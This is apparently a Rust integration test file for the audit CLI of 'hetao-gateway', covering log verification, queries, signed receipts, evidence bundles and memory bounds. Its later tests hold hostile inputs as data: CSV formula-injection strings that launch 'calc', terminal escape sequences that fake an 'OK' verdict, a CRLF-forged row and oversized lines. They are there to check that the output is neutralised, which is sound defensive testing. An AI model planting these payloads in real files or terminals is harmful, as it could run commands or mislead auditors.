//! `hetao-gateway audit verify | query | receipt verify | public-key` as an auditor runs them.

// Test helpers may unwrap: a failure there is the test failing.
#![allow(clippy::unwrap_used)]

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use hetao_gateway_core::audit::{generate_signing_key, AuditEvent, AuditLog, EntryType, RuleRef};
use hetao_gateway_core::config::{AuditConfig, FsyncPolicy};
use hetao_gateway_core::tls::identity::ClientIdentity;

fn bin() -> Command {
    Command::new(env!("CARGO_BIN_EXE_hetao-gateway"))
}

fn run(args: &[&str]) -> Output {
    bin().args(args).output().unwrap()
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

struct Setup {
    dir: tempfile::TempDir,
    log: String,
    public: String,
    receipt: String,
}

async fn setup(segment_max_bytes: u64) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let (private_pem, public_pem) = generate_signing_key().unwrap();
    let key = dir.path().join("audit-signing.key");
    hetao_gateway_core::key_file::write_private(&key, private_pem.as_bytes()).unwrap();
    let public = dir.path().join("audit-public.pem");
    std::fs::write(&public, public_pem).unwrap();
    let cfg = AuditConfig {
        log: dir.path().join("audit").join("audit.jsonl"),
        signing_key: key,
        fsync: FsyncPolicy::Always,
        fsync_interval: std::time::Duration::from_millis(200),
        checkpoint_every_entries: 5,
        checkpoint_interval: Duration::from_secs(3600),
        segment_max_bytes,
        max_batch: 64,
        max_queue: 16 * 1024,
        witnesses: Vec::new(),
        witness_max_lag_entries: None,
    };
    let log = AuditLog::open(&cfg).unwrap();
    let mut receipt = None;
    for i in 0..12 {
        let deny = i % 3 == 0;
        let appended = log
            .append(AuditEvent {
                entry_type: Some(EntryType::Decision),
                record_id: Some(format!("rec-{i}")),
                kind: Some(
                    if deny {
                        "personal_data"
                    } else {
                        "research_data"
                    }
                    .into(),
                ),
                from: Some("sz".into()),
                to: Some("hk".into()),
                decision: if deny { "deny" } else { "allow" }.into(),
                status: if deny { 403 } else { 200 },
                rules: vec![RuleRef {
                    id: if deny { "D7" } else { "D5" }.into(),
                    effect: if deny { "deny" } else { "allow" }.into(),
                    reason: "why, with a comma".into(),
                    regulation: None,
                }],
                ..Default::default()
            })
            .await
            .unwrap();
        if i == 4 {
            receipt = Some(log.receipt(&appended).unwrap());
        }
    }
    log.close().await.unwrap();
    let receipt_path = dir.path().join("receipt.json");
    // Senders keep the whole answer; the CLI finds the receipt inside it.
    let answer = serde_json::json!({"record_id": "rec-4", "decision": "allow", "receipt": receipt});
    std::fs::write(&receipt_path, answer.to_string()).unwrap();
    Setup {
        log: cfg.log.display().to_string(),
        public: public.display().to_string(),
        receipt: receipt_path.display().to_string(),
        dir,
    }
}

#[tokio::test]
async fn verify_exits_zero_on_an_intact_log_and_names_the_first_bad_seq() {
    let s = setup(256 * 1024 * 1024).await;
    let ok = run(&["audit", "verify", &s.log, "--public-key", &s.public]);
    assert!(ok.status.success(), "{}", stdout(&ok));
    assert!(stdout(&ok).contains("OK: the log is intact"));
    assert!(stdout(&ok).contains("signatures verified"));

    let unchecked = run(&["audit", "verify", &s.log]);
    assert!(unchecked.status.success());
    assert!(stdout(&unchecked).contains("signatures NOT checked"));

    let text = std::fs::read_to_string(&s.log).unwrap();
    let first_deny = text.lines().find(|l| l.contains("\"deny\"")).unwrap();
    let seq = serde_json::from_str::<serde_json::Value>(first_deny).unwrap()["seq"].clone();
    let tampered = text.replacen("\"deny\"", "\"allw\"", 1);
    std::fs::write(&s.log, tampered).unwrap();
    let bad = run(&["audit", "verify", &s.log, "--public-key", &s.public]);
    assert_eq!(bad.status.code(), Some(1), "{}", stdout(&bad));
    assert!(
        stdout(&bad).contains(&format!("first bad entry: seq {seq}")),
        "{}",
        stdout(&bad)
    );
}

#[tokio::test]
async fn verify_refuses_an_unsigned_tail_unless_allowed() {
    let s = setup(256 * 1024 * 1024).await;
    let text = std::fs::read_to_string(&s.log).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    std::fs::write(&s.log, lines[..lines.len() - 2].join("\n") + "\n").unwrap();
    let strict = run(&["audit", "verify", &s.log, "--public-key", &s.public]);
    assert_eq!(strict.status.code(), Some(1));
    assert!(
        stdout(&strict).contains("not covered by a signature"),
        "{}",
        stdout(&strict)
    );
    let live = run(&[
        "audit",
        "verify",
        &s.log,
        "--public-key",
        &s.public,
        "--allow-unsigned-tail",
    ]);
    assert!(live.status.success(), "{}", stdout(&live));
    assert!(stdout(&live).contains("warning"));
}

#[tokio::test]
async fn verify_of_the_active_log_includes_its_archived_segments() {
    let s = setup(1500).await;
    let ok = run(&[
        "audit",
        "verify",
        &s.log,
        "--public-key",
        &s.public,
        "--json",
    ]);
    assert!(ok.status.success(), "{}", stdout(&ok));
    let v: serde_json::Value = serde_json::from_slice(&ok.stdout).unwrap();
    assert!(v["files"].as_array().unwrap().len() >= 2, "{v}");
    assert_eq!(v["first_seq"], 0);
    assert_eq!(v["intact"], true);
}

#[tokio::test]
async fn query_filters_in_every_format_and_counts() {
    let s = setup(256 * 1024 * 1024).await;
    let table = run(&["audit", "query", &s.log, "--decision", "deny"]);
    assert!(table.status.success());
    let t = stdout(&table);
    assert!(t.contains("(4 entries)"), "{t}");
    assert!(t.contains("rec-9") && !t.contains("rec-1 "), "{t}");

    let json = run(&["audit", "query", &s.log, "--rule", "D5", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 8);
    assert_eq!(v[0]["hash"].as_str().unwrap().len(), 64);

    let csv = run(&[
        "audit",
        "query",
        &s.log,
        "--record-id",
        "rec-3",
        "--format",
        "csv",
    ]);
    let c = stdout(&csv);
    assert!(c.starts_with("seq,time,type,record_id"), "{c}");
    assert_eq!(c.lines().count(), 2, "{c}");

    let since_future = run(&["audit", "query", &s.log, "--since", "2999-01-01T00:00:00Z"]);
    assert!(stdout(&since_future).contains("(0 entries)"));
    let bad_time = run(&["audit", "query", &s.log, "--since", "yesterday"]);
    assert!(!bad_time.status.success());

    let stats = run(&["audit", "query", &s.log, "--stats", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&stats.stdout).unwrap();
    assert_eq!(v["by_decision"]["deny"], 4);
    assert_eq!(v["by_decision"]["allow"], 8);
    assert_eq!(v["by_route"]["sz->hk"], 12);
    assert_eq!(v["by_rule"]["D7"], 4);
    assert_eq!(v["by_kind"]["personal_data"], 4);
}

#[tokio::test]
async fn receipt_verify_accepts_the_kept_answer_and_rejects_an_altered_one() {
    let s = setup(256 * 1024 * 1024).await;
    let ok = run(&[
        "audit",
        "receipt",
        "verify",
        &s.receipt,
        "--public-key",
        &s.public,
        "--log",
        &s.log,
    ]);
    assert!(ok.status.success(), "{}", stdout(&ok));
    assert!(stdout(&ok).contains("the log holds the entry"));
    assert!(stdout(&ok).contains("the tree the receipt was shown"));

    let text = std::fs::read_to_string(&s.receipt).unwrap();
    let altered = s.dir.path().join("altered.json");
    std::fs::write(&altered, text.replace("rec-4", "rec-5")).unwrap();
    let bad = run(&[
        "audit",
        "receipt",
        "verify",
        altered.to_str().unwrap(),
        "--public-key",
        &s.public,
    ]);
    assert_eq!(bad.status.code(), Some(1));
    assert!(stdout(&bad).contains("INVALID"));
}

#[tokio::test]
async fn receipt_verify_fails_when_a_kept_answer_is_edited_in_decision_status_body_hash_or_policy()
{
    let s = setup(256 * 1024 * 1024).await;
    let kept: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&s.receipt).unwrap()).unwrap();
    type Edit = fn(&mut serde_json::Value);
    let edits: Vec<(&str, Edit)> = vec![
        ("the decision, answer and receipt alike", |a| {
            a["decision"] = "deny".into();
            a["receipt"]["decision"] = "deny".into();
        }),
        ("the answer's decision only", |a| {
            a["decision"] = "deny".into()
        }),
        ("the status", |a| a["receipt"]["status"] = 403.into()),
        ("the body hash", |a| {
            a["receipt"]["body_sha256"] = "0".repeat(64).into()
        }),
        ("the policy version", |a| {
            a["receipt"]["policy_version"] = "2099.01".into()
        }),
    ];
    for (what, edit) in edits {
        let mut answer = kept.clone();
        edit(&mut answer);
        let altered = s.dir.path().join("edited.json");
        std::fs::write(&altered, answer.to_string()).unwrap();
        let out = run(&[
            "audit",
            "receipt",
            "verify",
            altered.to_str().unwrap(),
            "--public-key",
            &s.public,
        ]);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stdout(&out));
        assert!(stdout(&out).contains("INVALID"), "{what}: {}", stdout(&out));
    }
}

#[tokio::test]
async fn prove_writes_evidence_that_verifies_offline_and_fails_when_altered() {
    let s = setup(256 * 1024 * 1024).await;
    let bundle = s.dir.path().join("evidence.json");
    let out = run(&[
        "audit",
        "prove",
        "rec-4",
        &s.log,
        "--out",
        bundle.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", stdout(&out));
    let evidence: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&bundle).unwrap()).unwrap();
    assert_eq!(evidence["record_id"], "rec-4");
    assert!(evidence["checkpoint"]
        .as_str()
        .unwrap()
        .contains("\n\n\u{2014} "));
    let verify = |path: &Path| {
        run(&[
            "audit",
            "receipt",
            "verify",
            path.to_str().unwrap(),
            "--public-key",
            &s.public,
        ])
    };
    let ok = verify(&bundle);
    assert!(ok.status.success(), "{}", stdout(&ok));
    assert!(stdout(&ok).contains("evidence OK"), "{}", stdout(&ok));

    type Edit = fn(&mut serde_json::Value);
    let edits: Vec<(&str, Edit)> = vec![
        ("the entry's decision", |e| {
            let line = e["entries"][0]["line"].as_str().unwrap().to_string();
            let edited = if line.contains("\"deny\"") {
                line.replacen("\"deny\"", "\"allow\"", 1)
            } else {
                line.replacen("\"allow\"", "\"deny\"", 1)
            };
            e["entries"][0]["line"] = edited.into();
        }),
        ("a proof hash", |e| {
            e["entries"][0]["inclusion"][0] = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".into();
        }),
        ("the tree size", |e| {
            e["tree_size"] = (e["tree_size"].as_u64().unwrap() + 1).into();
        }),
        ("the checkpoint's root", |e| {
            let note = e["checkpoint"].as_str().unwrap().to_string();
            let mut lines: Vec<String> = note.lines().map(String::from).collect();
            lines[2] = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".into();
            e["checkpoint"] = (lines.join("\n") + "\n").into();
        }),
    ];
    for (what, edit) in edits {
        let mut e = evidence.clone();
        edit(&mut e);
        let altered = s.dir.path().join("altered-evidence.json");
        std::fs::write(&altered, e.to_string()).unwrap();
        let out = verify(&altered);
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stdout(&out));
        assert!(stdout(&out).contains("INVALID"), "{what}: {}", stdout(&out));
    }
    let none = run(&["audit", "prove", "rec-none", &s.log]);
    assert_eq!(none.status.code(), Some(1));
    assert!(stdout(&none).contains("no entry for record rec-none"));
}

#[tokio::test]
async fn public_key_is_derived_from_the_signing_key() {
    let s = setup(256 * 1024 * 1024).await;
    let key = Path::new(&s.public).with_file_name("audit-signing.key");
    let out = run(&[
        "audit",
        "public-key",
        "--signing-key",
        key.to_str().unwrap(),
    ]);
    assert!(out.status.success());
    assert_eq!(stdout(&out), std::fs::read_to_string(&s.public).unwrap());
}

// === output that cannot act (issue 22) ===

/// What a terminal would obey: retitle, clear, home, a green fake verdict.
const TERMINAL_ATTACK: &str =
    "\u{1b}]0;PWNED\u{7}\u{1b}[2J\u{1b}[H\u{1b}[32mOK: the log is intact\u{1b}[0m";

/// A log written through the real audit writer holding one decision entry per event.
async fn log_of(events: Vec<AuditEvent>) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let (private_pem, _) = generate_signing_key().unwrap();
    let key = dir.path().join("audit-signing.key");
    hetao_gateway_core::key_file::write_private(&key, private_pem.as_bytes()).unwrap();
    let cfg = AuditConfig {
        log: dir.path().join("audit").join("audit.jsonl"),
        signing_key: key,
        fsync: FsyncPolicy::Never,
        fsync_interval: Duration::from_millis(200),
        checkpoint_every_entries: 1000,
        checkpoint_interval: Duration::from_secs(3600),
        segment_max_bytes: 256 * 1024 * 1024,
        max_batch: 64,
        max_queue: 16 * 1024,
        witnesses: Vec::new(),
        witness_max_lag_entries: None,
    };
    let log = AuditLog::open(&cfg).unwrap();
    for event in events {
        log.append(event).await.unwrap();
    }
    log.close().await.unwrap();
    (dir, cfg.log.display().to_string())
}

/// An invalid envelope's entry, as the pipeline writes it: the sender chose every text in it.
fn invalid_envelope(record_id: &str, from: &str, to: &str, organisation: &str) -> AuditEvent {
    AuditEvent {
        entry_type: Some(EntryType::Decision),
        record_id: Some(record_id.into()),
        from: Some(from.into()),
        to: Some(to.into()),
        sender: Some(ClientIdentity {
            park: "sz".into(),
            organisation: organisation.into(),
            subject: format!("O={organisation}"),
            fingerprint_sha256: "00".repeat(32),
        }),
        decision: "invalid".into(),
        status: 400,
        error: Some("invalid_envelope".into()),
        ..Default::default()
    }
}

/// The cells of an RFC 4180 CSV text (quoted cells may hold separators and quotes).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    let organisation = "=HYPERLINK(\"http://x\"&A1;\"Click\")";
    let (_dir, log) = log_of(vec![invalid_envelope(
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=1+2",
        "+cmd|'/C calc'!A0",
        organisation,
    )])
    .await;

    let out = run(&[
        "audit", "query", &log, "--type", "decision", "--format", "csv",
    ]);
    assert!(out.status.success(), "{}", stdout(&out));
    let rows = csv_rows(&stdout(&out));
    assert_eq!(rows.len(), 2, "{rows:?}");
    let (header, cells) = (&rows[0], &rows[1]);
    let cell = |name: &str| cells[header.iter().position(|h| h == name).unwrap()].as_str();
    assert_eq!(cell("record_id"), "'@SUM(1+9)*cmd|' /C calc'!A0");
    assert_eq!(cell("from"), "'=1+2");
    assert_eq!(cell("to"), "'+cmd|'/C calc'!A0");
    assert_eq!(cell("organisation"), format!("'{organisation}"));
    // Numbers stay numbers.
    assert!(cell("seq").parse::<u64>().is_ok(), "{cells:?}");
    assert_eq!(cell("status"), "400");
    for c in cells {
        assert!(!c.starts_with(['=', '+', '-', '@', '\t', '\r']), "{c}");
    }
    // Quoted as written: the raw line carries the quote inside the quotes.
    assert!(stdout(&out).contains("\"'=1+2\""), "{}", stdout(&out));

    let stats = run(&["audit", "query", &log, "--stats", "--format", "csv"]);
    let rows = csv_rows(&stdout(&stats));
    let value = |group: &str| {
        rows.iter()
            .find(|r| r[0] == group)
            .map(|r| r[1].clone())
            .unwrap_or_else(|| panic!("no {group} row in {rows:?}"))
    };
    assert_eq!(value("route"), "'=1+2->+cmd|'/C calc'!A0");
    assert_eq!(value("organisation"), format!("'{organisation}"));
    for r in &rows {
        assert!(!r[1].starts_with(['=', '+', '-', '@', '\t', '\r']), "{r:?}");
    }
}

#[tokio::test]
async fn table_and_stats_show_control_characters_as_escapes() {
    let (_dir, log) = log_of(vec![
        invalid_envelope(TERMINAL_ATTACK, "sz", "hk", "Org \u{1b}[31mRed"),
        invalid_envelope(
            "rec-1\r\n9  2026-01-01T00:00:00Z  decision  forged",
            "sz",
            "hk",
            "Org",
        ),
        invalid_envelope("深圳河套-记录", "sz", "hk", "深圳河套生物样本中心"),
    ])
    .await;

    let out = run(&["audit", "query", &log, "--type", "decision"]);
    assert!(out.status.success());
    let table = stdout(&out);
    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}') && !table.contains('\r'));
    assert!(table.contains("\\u{1b}]0;PWNED\\u{7}\\u{1b}[2J"), "{table}");
    assert!(table.contains("rec-1\\r\\n9"), "{table}");
    // One line per entry: the header, three rows, the count. No forged row.
    assert_eq!(table.lines().count(), 5, "{table}");
    assert!(table.contains("(3 entries)"), "{table}");
    // Letters of any script stay readable.
    assert!(table.contains("深圳河套生物样本中心"), "{table}");

    let stats = stdout(&run(&["audit", "query", &log, "--stats"]));
    assert!(!stats.contains('\u{1b}'), "{stats}");
    assert!(stats.contains("Org \\u{1b}[31mRed"), "{stats}");
}

#[tokio::test]
async fn verify_shows_what_a_forged_line_holds_as_escapes() {
    let (_dir, log) = log_of(vec![invalid_envelope("rec-1", "sz", "hk", "Org")]).await;
    let text = std::fs::read_to_string(&log).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    // The stored hash of entry 1 replaced by 64 bytes of terminal commands: `verify` quotes
    // the stored hash in its error.
    let forged = format!(
        "\u{1b}[2J\u{1b}[H\u{1b}[32mOK: the log is intact\u{1b}[0m{}",
        "x".repeat(64)
    );
    let forged: String = forged.chars().take(64).collect();
    assert_eq!(forged.len(), 64);
    let line = &lines[1];
    lines[1] = format!("{}{forged}\"}}", &line[..line.len() - 66]);
    std::fs::write(&log, lines.join("\n") + "\n").unwrap();

    let out = run(&["audit", "verify", &log]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    let text = stdout(&out);
    assert!(!text.contains('\u{1b}'), "{text}");
    assert!(text.contains("hash mismatch"), "{text}");
    assert!(text.contains("\\u{1b}[2J\\u{1b}[H"), "{text}");
    assert!(!text.contains("\nOK: the log is intact"), "{text}");
}

// === bounded lines (issue 22) ===

/// Runs the binary and waits at most `limit`; a run that takes longer is killed and fails.
fn run_within(args: &[&str], limit: Duration) -> Output {
    let mut child = bin()
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let started = std::time::Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > limit {
            child.kill().unwrap();
            let _ = child.wait();
            panic!("hetao-gateway {args:?} still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    child.wait_with_output().unwrap()
}

#[tokio::test]
async fn a_line_longer_than_a_mebibyte_is_refused_naming_the_file_and_line() {
    let s = setup(256 * 1024 * 1024).await;
    let mut text = std::fs::read(&s.log).unwrap();
    let good_lines = text.iter().filter(|b| **b == b'\n').count();
    text.extend(vec![b'x'; 2 * 1024 * 1024]);
    text.push(b'\n');
    std::fs::write(&s.log, text).unwrap();
    let line = format!("line {}", good_lines + 1);

    let verify = run_within(&["audit", "verify", &s.log], Duration::from_secs(20));
    assert_eq!(verify.status.code(), Some(1), "{}", stdout(&verify));
    let out = stdout(&verify);
    assert!(
        out.contains(&format!("audit.jsonl {line}: longer than 1048576 bytes")),
        "{out}"
    );

    let query = run_within(&["audit", "query", &s.log], Duration::from_secs(20));
    assert_eq!(query.status.code(), Some(2));
    let err = String::from_utf8_lossy(&query.stderr);
    assert!(
        err.contains(&format!("audit.jsonl: {line} is longer than 1048576 bytes")),
        "{err}"
    );
}

#[cfg(target_os = "linux")]
#[test]
fn verify_and_query_of_dev_zero_end_with_an_error_not_out_of_memory() {
    let verify = run_within(&["audit", "verify", "/dev/zero"], Duration::from_secs(10));
    assert_eq!(verify.status.code(), Some(1), "{}", stdout(&verify));
    assert!(
        stdout(&verify).contains("/dev/zero line 1: longer than 1048576 bytes"),
        "{}",
        stdout(&verify)
    );
    let query = run_within(&["audit", "query", "/dev/zero"], Duration::from_secs(10));
    assert_eq!(query.status.code(), Some(2));
    let err = String::from_utf8_lossy(&query.stderr);
    assert!(
        err.contains("/dev/zero: line 1 is longer than 1048576 bytes"),
        "{err}"
    );
}

/// Peak resident memory (VmHWM, KiB) of `hetao-gateway args` and the bytes it printed. A thread
/// samples the process's high-water mark until it exits while its output is read to the end (a
/// process that builds its output in memory reaches its peak before it can finish writing).
#[cfg(target_os = "linux")]
fn peak_memory_kib(args: &[&str]) -> (u64, u64) {
    let mut child = bin()
        .args(args)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let status = format!("/proc/{}/status", child.id());
    let sampler = std::thread::spawn(move || {
        let mut peak = 0u64;
        // Gone, or a zombie without memory: the peak is known.
        while let Some(kib) = std::fs::read_to_string(&status).ok().and_then(|t| {
            t.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        }) {
            peak = peak.max(kib);
            std::thread::sleep(Duration::from_millis(5));
        }
        peak
    });
    let mut out = child.stdout.take().unwrap();
    let printed = std::io::copy(&mut out, &mut std::io::sink()).unwrap();
    let exit = child.wait().unwrap();
    assert!(exit.success(), "hetao-gateway {args:?}: {exit}");
    (sampler.join().unwrap(), printed)
}

/// The review: `audit query --format json` on one 250 MiB segment peaked at 2.65 GB. Every
/// format now holds one entry at a time: on a 32 MiB log, none needs a third of the 28 MiB it
/// adds to a 4 MiB log more than on the 4 MiB log (the old code needed 391 MiB for JSON and 92
/// for CSV on the 32 MiB log). The baseline is a log long enough to be sampled at its peak: the
/// sampler reads `VmHWM` every 5 ms until the process exits, and a query of a dozen records is
/// over within a sample or two, its peak read before it was reached (the baseline read there
/// moved from 5 to 22 MiB between runs while the 32 MiB log's peak stayed at 22 MiB, and one CI
/// run failed on it).
#[cfg(target_os = "linux")]
#[tokio::test]
async fn query_streams_every_format_in_memory_that_does_not_grow_with_the_log() {
    let s = setup(256 * 1024 * 1024).await;
    let text = std::fs::read_to_string(&s.log).unwrap();
    let decisions: Vec<&str> = text
        .lines()
        .filter(|l| l.contains("\"type\":\"decision\""))
        .collect();
    assert!(!decisions.is_empty());
    // The log's decision entries repeated up to `size` bytes; its path and entry count.
    let repeated = |name: &str, size: usize| {
        let path = s.dir.path().join(name);
        let mut bytes = Vec::with_capacity(size + (1 << 20));
        while bytes.len() < size {
            for line in &decisions {
                bytes.extend_from_slice(line.as_bytes());
                bytes.push(b'\n');
            }
        }
        std::fs::write(&path, &bytes).unwrap();
        let entries = bytes.iter().filter(|b| **b == b'\n').count() as u64;
        (
            path.to_str().unwrap().to_owned(),
            bytes.len() as u64 / 1024,
            entries,
        )
    };
    let (small, small_kib, _) = repeated("small.jsonl", 4 << 20);
    let (big, big_kib, entries) = repeated("big.jsonl", 32 << 20);

    for format in ["json", "csv", "table"] {
        let (base, _) = peak_memory_kib(&["audit", "query", &small, "--format", format]);
        let (peak, printed) = peak_memory_kib(&["audit", "query", &big, "--format", format]);
        assert!(printed > big_kib * 256, "{format}: printed {printed} bytes");
        assert!(
            peak < base + (big_kib - small_kib) / 3,
            "{format}: peak {peak} KiB on a log of {big_kib} KiB ({entries} entries), \
             {base} KiB on one of {small_kib} KiB"
        );
    }
    let (base, _) = peak_memory_kib(&["audit", "query", &small, "--stats", "--format", "json"]);
    let (peak, _) = peak_memory_kib(&["audit", "query", &big, "--stats", "--format", "json"]);
    assert!(
        peak < base + (big_kib - small_kib) / 3,
        "--stats: peak {peak} KiB on {big_kib} KiB, {base} KiB on {small_kib} KiB"
    );
}

/// The way back in the auditor's tools: an outcome entry's acknowledgement is shown in every
/// format, as data (its text came from a park endpoint: a log may hold anything).
#[tokio::test]
async fn query_shows_the_acknowledgement_of_an_outcome_in_every_format() {
    let acknowledgement = serde_json::json!({"accepted": true,
        "reference": "=HYPERLINK(\"http://x\")\u{1b}[2J"});
    let (_dir, log) = log_of(vec![AuditEvent {
        entry_type: Some(EntryType::Outcome),
        record_id: Some("rec-ack".into()),
        decision: "forwarded".into(),
        status: 200,
        refers_to: Some(0),
        answer_sha256: Some("ab".repeat(32)),
        answer_bytes: Some(57),
        acknowledgement: Some(acknowledgement.clone()),
        ..Default::default()
    }])
    .await;

    let json = run(&[
        "audit", "query", &log, "--type", "outcome", "--format", "json",
    ]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v[0]["acknowledgement"], acknowledgement);
    assert_eq!(v[0]["answer_sha256"], "ab".repeat(32));
    assert_eq!(v[0]["answer_bytes"], 57);

    let csv = run(&[
        "audit", "query", &log, "--type", "outcome", "--format", "csv",
    ]);
    let rows = csv_rows(&stdout(&csv));
    let (header, cells) = (&rows[0], &rows[1]);
    let cell = cells[header.iter().position(|h| h == "acknowledgement").unwrap()].as_str();
    let shown: serde_json::Value = serde_json::from_str(cell).unwrap();
    assert_eq!(shown, acknowledgement);
    assert!(
        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
        "{cell}"
    );
    assert!(!stdout(&csv).contains('\u{1b}'));

    let table = stdout(&run(&["audit", "query", &log, "--type", "outcome"]));
    assert!(table.contains("acknowledgement"), "{table}");
    assert!(table.contains("{\"accepted\":true,"), "{table}");
    assert!(!table.contains('\u{1b}'), "{table}");
}
